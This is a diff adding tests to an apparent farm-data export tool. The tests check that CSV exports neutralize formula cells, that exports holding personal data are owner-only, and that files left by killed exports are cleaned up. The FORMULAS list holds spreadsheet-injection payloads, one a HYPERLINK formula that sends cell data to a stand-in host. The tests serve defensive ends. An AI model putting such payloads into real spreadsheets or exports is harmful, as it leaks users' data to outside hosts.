@@ -328,3 +328,145 @@ def test_cli_bad_format_is_usage_error(cli, store_data):
     result = cli("export", "--format", "xlsx")
     assert result.exit_code == 2
     assert "xlsx" in result.stderr
+
+
+# --- hostile cells, personal files, killed exports --------------------------------------------------
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def _hostile_rows(settings: config.Settings) -> None:
+    """Rows whose every free-text column (id, farmer id, url, location, feedback, extra) starts a formula."""
+    raw = []
+    for i, text in enumerate(FORMULAS * 2):
+        raw.append(
+            {
+                "id": f"{text}{i}",
+                "farmer_id": text,
+                "image_url": f"{text}.jpg",
+                "pest_detected": "aphids",
+                "confidence_score": 0.5,
+                "user_confirmed": True,
+                "user_feedback": text,
+                "farm_location": text,
+                "latitude": -1.5,  # a negative number is a number, not text: never prefixed
+                "created_at": "2025-03-01T10:00:00+00:00",
+                "image_metadata": {"note": text},
+            }
+        )
+    with Store(settings.db_path) as store:
+        store.upsert(rec.normalize_rows(raw, schema.table_spec("pest"), "supabase", store.salt()).records)
+
+
+def _csv_cells(path: Path) -> list[dict[str, str]]:
+    import csv
+
+    with open(path, encoding="utf-8", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+def test_csv_neutralizes_formula_cells_in_every_text_column_and_other_formats_stay_exact(workdir):
+    settings = config.resolve(env_file=None)
+    _hostile_rows(settings)
+    stored = _expected(settings, "pest", "all", include_personal=True, fmt="parquet").set_index("id", drop=False)
+    text_columns = [n for n, t in pandas_dtypes(export_columns("all", True)).items() if t == "str"]
+    csv_file = _export(settings, "pest", "all", "csv", include_personal=True).files[0]
+    neutralized: dict[str, int] = {}
+    cells = _csv_cells(csv_file.path)
+    assert len(cells) == len(stored) == len(FORMULAS) * 2
+    for cell_row in cells:
+        want = stored.loc[cell_row["id"].removeprefix("'")]
+        for name in text_columns:
+            value = want[name]
+            if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                assert cell_row[name] == "'" + value, (name, value)
+                neutralized[name] = neutralized.get(name, 0) + 1
+            else:
+                assert cell_row[name] == ("" if pd.isna(value) else value), (name, value)
+        assert cell_row["latitude"] == "-1.5"
+    # every hostile column was hit, each with every dangerous first character
+    assert set(neutralized) >= {"id", "farmer_id", "image_url", "location", "feedback_text"}
+    assert all(n == len(FORMULAS) * 2 for name, n in neutralized.items() if name != "image_url")
+    for fmt in ("parquet", "json"):  # exact, byte for byte in the values
+        back = _read_back(_export(settings, "pest", "all", fmt, include_personal=True).files[0].path, fmt, [])
+        assert sorted(back["feedback_text"]) == sorted(FORMULAS * 2)
+        assert sorted(back["farmer_id"]) == sorted(FORMULAS * 2)
+
+
+def test_cli_raw_csv_writes_cells_unchanged(cli, workdir):
+    settings = config.resolve(env_file=None)
+    _hostile_rows(settings)
+    result = cli("export", "--model", "pest", "--scope", "all", "--format", "csv", "--raw-csv", "--json")
+    assert result.exit_code == 0, result.output
+    path = Path(json.loads(result.stdout)["files"][0]["path"])
+    assert sorted(c["feedback_text"] for c in _csv_cells(path)) == sorted(FORMULAS * 2)
+    default = cli("export", "--model", "pest", "--scope", "all", "--format", "csv", "--json")
+    path = Path(json.loads(default.stdout)["files"][0]["path"])
+    assert sorted(c["feedback_text"] for c in _csv_cells(path)) == sorted("'" + f for f in FORMULAS * 2)
+    assert "--raw-csv" in cli("export", "--help").stdout
+
+
+@pytest.mark.parametrize("fmt", ["parquet", "csv", "json"])
+def test_include_personal_exports_are_owner_only_and_others_keep_the_umask(store_data, fmt):
+    umask = os.umask(0o022)
+    try:
+        personal = _export(store_data, fmt=fmt, include_personal=True).files[0].path
+        plain = _export(store_data, fmt=fmt).files[0].path
+    finally:
+        os.umask(umask)
+    assert personal.stat().st_mode & 0o777 == 0o600
+    assert plain.stat().st_mode & 0o777 == 0o644
+
+
+_KILLED_EXPORT = """
+import os, signal, sys
+from agroml.core import config
+from agroml.data.exporting import export_records
+from agroml.data.sources import LocalSource
+
+def die(task, done, total=None, info=""):
+    if done > 0:  # the first chunk is in the temporary file: the run dies as kill -9 kills it
+        os.kill(os.getpid(), signal.SIGKILL)
+
+with LocalSource(config.resolve(env_file=None)) as source:
+    export_records(source, "pest", "all", sys.argv[1], "exports", chunk_rows=5, progress=die)
+"""
+
+
+def test_next_export_removes_a_killed_exports_temporary_file_but_not_a_live_ones(store_data, workdir):
+    import subprocess
+    import sys
+
+    left = []
+    for fmt in ("csv", "parquet"):  # each killed run removes the one before's temporary file
+        killed = subprocess.run([sys.executable, "-c", _KILLED_EXPORT, fmt], cwd=workdir, timeout=120)
+        assert killed.returncode == -9
+        left.append(sorted(p.name for p in Path("exports").iterdir()))
+    assert [len(names) for names in left] == [1, 1] and left[0] != left[1]
+    assert left[1][0].startswith(".pest_all_") and left[1][0].endswith(".parquet." + left[1][0].split(".")[-2] + ".tmp")
+    stale = Path("exports") / ".disease_training_20250101T000000Z.jsonl.1234.abcd.tmp"  # an older run's name
+    stale.write_text("{}")
+    other = Path("exports") / ".notes.txt.tmp"  # not an export's: never touched
+    other.write_text("mine")
+    live = Path("exports") / ".pest_all_20250101T000000Z.csv.live.tmp"
+    live.write_text("being written")
+    holder = subprocess.Popen(  # a live export elsewhere, holding its temporary file's lock
+        [
+            sys.executable,
+            "-c",
+            "import fcntl,sys,time; f=open(sys.argv[1]); fcntl.flock(f, fcntl.LOCK_EX); "
+            "print('held', flush=True); time.sleep(60)",
+            str(live),
+        ],
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        assert holder.stdout.readline().strip() == "held"
+        result = _export(store_data, "pest", "all", "csv")
+    finally:
+        holder.kill()
+        holder.wait()
+        holder.stdout.close()
+    hidden = sorted(p.name for p in Path("exports").iterdir() if p.name.startswith("."))
+    assert hidden == sorted([other.name, live.name])
+    assert result.warnings == ["removed 2 temporary file(s) that a killed export left in exports"]
